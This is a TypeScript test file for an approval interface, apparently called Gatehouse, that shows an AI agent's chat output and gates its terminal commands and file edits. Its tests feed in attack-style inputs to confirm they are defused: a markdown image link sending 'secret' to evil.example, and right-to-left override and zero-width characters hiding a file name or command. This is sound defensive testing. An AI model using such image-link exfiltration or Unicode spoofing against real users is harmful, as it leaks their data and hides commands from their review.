import assert from 'node:assert/strict';
import { test } from 'node:test';
import { describeApproval } from '../../src/approvals';
import { ChatSession } from '../../src/chatSession';
import {
  ANSWER_COMMAND, DENY_WITH_MESSAGE, NativeApprovals, NativeChatUi, OPEN_DIFF_COMMAND, STOP_COMMAND, approvalMarkdown, fenced, openFence, type NativeStream,
} from '../../src/nativeChatUi';
import type { StreamEvent, ToolConfirmParams } from '../../src/protocol';
import { FakeToken, FakeTransport, tick } from './fakes';

class FakeStream implements NativeStream {
  parts: Array<[string, ...unknown[]]> = [];
  markdown(text: string): void {
    const last = this.parts[this.parts.length - 1];
    if (last?.[0] === 'markdown') last[1] = String(last[1]) + text;
    else this.parts.push(['markdown', text]);
  }
  progress(text: string): void {
    this.parts.push(['progress', text]);
  }
  button(title: string, command: string, args: unknown[]): void {
    this.parts.push(['button', title, command, args]);
  }
  get text(): string {
    return this.parts.filter((p) => p[0] === 'markdown').map((p) => p[1]).join('');
  }
}

const CHOICES = [
  { id: 'allow_once', label: 'Allow once', kind: 'allow_once' as const },
  { id: 'ch_s', label: 'Allow `touch *` in this session', kind: 'allow_session' as const },
  { id: 'deny', label: 'Deny', kind: 'deny' as const },
];
const params = (extra: Partial<ToolConfirmParams> = {}): ToolConfirmParams => ({
  sessionId: 's_1', turnId: 's_1:1', toolCallId: 'c1', approvalId: 'A1', name: 'terminal',
  arguments: { command: 'touch allowed.txt' }, reason: 'code_execution', sandbox: { level: 'standard', network: false },
  contentSha256: 'abc', choices: CHOICES, ...extra,
});
const ev = (e: Record<string, unknown>): StreamEvent => ({ sessionId: 's_1', turnId: 's_1:1', ...e }) as unknown as StreamEvent;

test('@gatehouse streams the answer as markdown, tool calls as progress and then their output', async () => {
  const stream = new FakeStream();
  const transport = new FakeTransport();
  const session = new ChatSession(transport, new NativeChatUi(stream));
  const done = session.send('make a file');
  session.handleEvent(ev({ type: 'content', text: 'I will **create** ' }));
  session.handleEvent(ev({ type: 'content', text: 'the file.\n' }));
  session.handleEvent(ev({ type: 'tool_start', toolCallId: 'c1', name: 'terminal', arguments: { command: 'ls' }, awaitingConfirmation: false }));
  session.handleEvent(ev({ type: 'tool_output', toolCallId: 'c1', text: 'a.py\n' }));
  session.handleEvent(ev({ type: 'tool_end', toolCallId: 'c1', name: 'terminal', status: 'completed', exitCode: 0, result: 'a.py\n', sandbox: { level: 'strong', network: false } }));
  session.handleEvent(ev({ type: 'content', text: 'Done.' }));
  transport.last.resolve({ sessionId: 's_1', turnId: 's_1:1', stopReason: 'end_turn', text: '', toolCalls: [] });
  await done;
  const kinds = stream.parts.map((p) => (p[0] === 'progress' ? `progress:${String(p[1])}` : p[0]));
  assert.deepEqual(kinds, ['markdown', 'progress:Running terminal…', 'markdown']);
  assert.match(stream.text, /^I will \*\*create\*\* the file\.\n/);
  assert.match(stream.text, /\*\*terminal\*\* · completed · exit code 0 · ran under strong · network off/);
  assert.match(stream.text, /Output:\n\n```\na\.py\n```/);
  assert.ok(stream.text.endsWith('Done.'), 'text after the tool comes after it');
});

test('@gatehouse shows bidi and zero-width characters in model text written out, as the Gatehouse view does', async () => {
  const stream = new FakeStream();
  const transport = new FakeTransport();
  const session = new ChatSession(transport, new NativeChatUi(stream));
  const done = session.send('name a file');
  session.handleEvent(ev({ type: 'content', text: 'Open \u202Etxt.exe\u202C, then\u200B run ' }));
  session.handleEvent(ev({ type: 'content', text: '`rm x\u2067`.' }));
  transport.last.resolve({ sessionId: 's_1', turnId: 's_1:1', stopReason: 'end_turn', text: '', toolCalls: [] });
  await done;
  assert.equal(stream.text, 'Open <U+202E>txt.exe<U+202C>, then<U+200B> run `rm x<U+2067>`.');
});

test('the approval in the Chat view shows everything the card shows, Deny first, then Stop', () => {
  const stream = new FakeStream();
  const ui = new NativeChatUi(stream);
  const view = describeApproval(params({ arguments: { command: 'echo "```" \u202E' } }), '/ws/my_project');
  ui.showApproval(view, ['s_1']);
  const text = stream.text;
  assert.match(text, /allow `terminal` to run\?/);
  assert.match(text, /Command \(1 line, shown in full\)/);
  assert.match(text, /````sh\necho "```" <U\+202E>\n````/, 'the full command, in a fence it cannot close');
  assert.match(text, /hidden or control characters/);
  assert.match(text, /Working folder:\*\* \/ws\/my\\_project/);
  assert.match(text, /Why you are asked:\*\* It runs code/);
  assert.match(text, /Isolation:\*\* standard · network off — \*\*below strong isolation/);
  const buttons = stream.parts.filter((p) => p[0] === 'button');
  assert.deepEqual(buttons.map((b) => b[1]), ['Deny', 'Deny with a message…', 'Allow once', 'Allow `touch *` in this session', 'Stop'],
    'the server\'s choices, Deny first whatever order they came in');
  assert.deepEqual(buttons[0]?.slice(2), [ANSWER_COMMAND, ['A1', 'deny']]);
  assert.deepEqual(buttons[1]?.slice(2), [ANSWER_COMMAND, ['A1', DENY_WITH_MESSAGE]]);
  assert.deepEqual(buttons[3]?.slice(2), [ANSWER_COMMAND, ['A1', 'ch_s']]);
  assert.deepEqual(buttons[4]?.slice(2), [STOP_COMMAND, ['s_1']]);
});

const EDIT: Partial<ToolConfirmParams> = {
  name: 'edit_file', arguments: { path: 'notes.txt', old_text: 'two', new_text: '2' }, reason: 'file_edit',
  edits: [{ path: 'notes.txt', action: 'modify', diff: '--- a/notes.txt\n+++ b/notes.txt\n@@ -1,3 +1,3 @@\n one\n-two\n+2\n three\n' }],
};

test('an edit\'s approval in the Chat view shows the whole diff, Accept and Open diff; no isolation (nothing runs)', () => {
  const stream = new FakeStream();
  const view = describeApproval(params(EDIT), '/ws');
  new NativeChatUi(stream).showApproval(view, ['s_1']);
  const text = stream.text;
  assert.match(text, /allow `edit_file` to change notes\\.txt\?/);
  assert.match(text, /- \*\*notes\\.txt\*\* · modify · \+1 \u22121/);
  assert.match(text, /```diff\n--- a\/notes\.txt\n\+\+\+ b\/notes\.txt\n@@ -1,3 \+1,3 @@\n one\n-two\n\+2\n three\n```/, 'the whole diff');
  assert.doesNotMatch(text, /Isolation/);
  const buttons = stream.parts.filter((p) => p[0] === 'button');
  assert.deepEqual(buttons.map((b) => b[1]), ['Deny', 'Deny with a message…', 'Accept', 'Allow `touch *` in this session', 'Open diff', 'Stop']);
  assert.deepEqual(buttons[4]?.slice(2), [OPEN_DIFF_COMMAND, ['A1', 'notes.txt']]);
});

test('Chat view: accepting an edit sends the user\'s version of the file; a denial never does', async () => {
  const approvals = new NativeApprovals();
  const ui = new NativeChatUi(new FakeStream());
  const view = describeApproval(params(EDIT), '/ws');
  const mine = [{ path: 'notes.txt', content: 'one\n2\nthree\nfour\n' }];
  const accepted = approvals.ask(view, ui, new FakeToken(), []);
  assert.equal(approvals.view('A1')?.edits?.length, 1);
  approvals.answer('A1', 'allow_once', undefined, mine);
  assert.deepEqual(await accepted, { decision: 'allow', choice: 'allow_once', approvalId: 'A1', contentSha256: 'abc', edits: mine });
  const denied = approvals.ask({ ...view, approvalId: 'A2' }, ui, new FakeToken(), []);
  approvals.answer('A2', 'deny', undefined, mine);
  assert.deepEqual(await denied, { decision: 'deny', choice: 'deny', approvalId: 'A2', contentSha256: 'abc' });
});

test('Chat view approvals: a choice answers with its decision, the approval id and the content hash; anything else is a denial', async () => {
  const approvals = new NativeApprovals();
  const stream = new FakeStream();
  const ui = new NativeChatUi(stream);
  const view = describeApproval(params(), '/ws');
  const allow = approvals.ask(view, ui, new FakeToken(), []);
  assert.equal(approvals.answer('A1', 'allow_once'), true);
  assert.deepEqual(await allow, { decision: 'allow', choice: 'allow_once', approvalId: 'A1', contentSha256: 'abc' });
  assert.equal(approvals.answer('A1', 'allow_once'), false, 'an answered approval cannot be answered again');
  const session = approvals.ask({ ...view, approvalId: 'A2' }, ui, new FakeToken(), []);
  approvals.answer('A2', 'ch_s');
  assert.deepEqual(await session, { decision: 'allow_session', choice: 'ch_s', approvalId: 'A2', contentSha256: 'abc' });
  assert.ok(stream.text.includes('_You chose\\: Allow \\`touch \\*\\` in this session._'), 'the note says what the choice allowed (escaped markdown)');
  const deny = approvals.ask({ ...view, approvalId: 'A3' }, ui, new FakeToken(), []);
  assert.equal(approvals.deny('A3', ' use git clean '), true);
  assert.deepEqual(await deny, { decision: 'deny', choice: 'deny', approvalId: 'A3', contentSha256: 'abc', message: 'use git clean' });
  const odd = approvals.ask({ ...view, approvalId: 'A4' }, ui, new FakeToken(), []);
  approvals.answer('A4', 'allow_everything_forever');
  assert.deepEqual(await odd, { decision: 'deny' });
  assert.equal(approvals.answer('nope', 'allow_once'), false);
  assert.equal(approvals.answer(42, 'allow_once'), false);
});

test('Chat view approvals fail closed: no live response, or a response that cannot show it, is a denial', async () => {
  const approvals = new NativeApprovals();
  const view = describeApproval(params(), '/ws');
  assert.deepEqual(await approvals.ask(view, undefined, new FakeToken(), []), { decision: 'deny' });
  const broken = new NativeChatUi(new FakeStream());
  broken.showApproval = () => {
    throw new Error('response closed');
  };
  assert.deepEqual(await approvals.ask(view, broken, new FakeToken(), []), { decision: 'deny' });
  assert.equal(approvals.size, 0);
});

test('Stop (the server withdraws the approval): nothing is decided and the response says so', async () => {
  const approvals = new NativeApprovals();
  const stream = new FakeStream();
  const token = new FakeToken();
  const closed: string[] = [];
  const pending = approvals.ask(describeApproval(params(), '/ws'), new NativeChatUi(stream), token, [], (o) => closed.push(o));
  token.cancel();
  assert.equal(await pending, undefined);
  assert.deepEqual(closed, ['withdrawn']);
  assert.match(stream.text, /_Approval withdrawn\._/);
  assert.equal(approvals.answer('A1', 'allow_once'), false, 'a withdrawn approval cannot be allowed afterwards');
  await tick();
});

test('an approval withdrawn or denied before it is shown is closed too, so nothing counts it as waiting', async () => {
  const approvals = new NativeApprovals();
  const view = describeApproval(params(), '/ws');
  const closed: string[] = [];
  const stopped = new FakeToken();
  stopped.cancel();
  const stream = new FakeStream();
  assert.equal(await approvals.ask(view, new NativeChatUi(stream), stopped, [], (o) => closed.push(o)), undefined);
  assert.deepEqual(await approvals.ask(view, undefined, new FakeToken(), [], (o) => closed.push(o)), { decision: 'deny' });
  assert.deepEqual(closed, ['withdrawn', 'deny'], 'the waiting notice is told each time (its badge and status bar count)');
  assert.equal(stream.parts.filter((p) => p[0] === 'button').length, 0, 'no buttons for an approval that is not waiting');
  assert.equal(approvals.size, 0);
});

test('model text cannot load images in the Chat view, even split across deltas', () => {
  const stream = new FakeStream();
  const ui = new NativeChatUi(stream);
  ui.appendContent('see !');
  ui.appendContent('[x](https://evil.example/?q=secret) and ![y](https://e/)');
  ui.endTurn('');
  assert.equal(stream.text, 'see !\\[x](https://evil.example/?q=secret) and !\\[y](https://e/)');
});

test('a code block the model leaves open is closed before Gatehouse writes its own text', () => {
  const stream = new FakeStream();
  const ui = new NativeChatUi(stream);
  ui.appendContent('```python\nprint(1)\n');
  ui.startTool({ id: 'c1', name: 'python', args: 'print(1)', awaitingConfirmation: true });
  ui.showApproval(describeApproval(params({ name: 'python', arguments: { code: 'print(1)' } }), '/ws'), []);
  assert.match(stream.text, /^```python\nprint\(1\)\n\n```\n\n\*\*Gatehouse: allow `python`/);
  assert.equal(openFence('```\na\n```\n~~~\n'), '~~~');
  assert.equal(openFence('````\n```\n'), '````');
  assert.equal(fenced('a ``` b'), '````\na ``` b\n````\n');
  assert.match(approvalMarkdown(describeApproval(params(), '/ws')), /Deny\*\* is the default/);
});
